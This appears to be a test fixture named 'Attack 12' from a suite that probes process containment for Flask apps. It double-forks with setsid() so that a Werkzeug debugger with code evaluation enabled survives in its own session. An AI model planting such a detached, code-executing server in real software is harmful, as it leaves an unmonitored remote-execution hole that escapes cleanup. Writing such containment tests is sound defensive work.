"""Attack 12: a double fork with setsid() leaves a process serving the Werkzeug debugger in its own session."""
import os
import sys

from flask import Flask

from _wait import armed, until_listening

app = Flask(__name__)
app.config.update(SECRET_KEY=os.environ["SECRET_KEY"], MAX_CONTENT_LENGTH=1024 * 1024,
                  TRUSTED_HOSTS=["127.0.0.1", "localhost"])

SERVER = """
import os, sys
from flask import Flask
from werkzeug.serving import run_simple
open(sys.argv[2], "w").write(str(os.getpid()))
run_simple("127.0.0.1", int(sys.argv[1]), Flask("escaped"), use_debugger=True, use_evalex=True)
"""

port = int(os.environ["ATTACK_PORT"])
if armed():
    pid = os.fork()
    if pid == 0:
        os.setsid()
        if os.fork() == 0:
            os.execv(sys.executable, [sys.executable, "-c", SERVER, str(port), os.environ["ATTACK_PIDFILE"]])
        os._exit(0)
    os.waitpid(pid, 0)
    until_listening(port)
